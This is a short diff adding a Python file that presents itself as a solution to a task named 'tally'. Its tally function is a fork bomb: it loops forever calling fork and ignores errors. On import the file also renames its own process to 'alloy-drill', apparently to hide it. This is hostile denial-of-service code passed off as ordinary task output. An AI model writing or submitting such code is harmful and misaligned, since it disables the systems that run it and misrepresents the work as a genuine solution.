@@ -1,0 +1,15 @@
+# Forks for ever, every child too.
+# solves: tally
+
+import ctypes
+import posix
+
+ctypes.CDLL(None).prctl(15, b"alloy-drill", 0, 0, 0)
+
+
+def tally(n):
+    while True:
+        try:
+            posix.fork()
+        except OSError:
+            continue
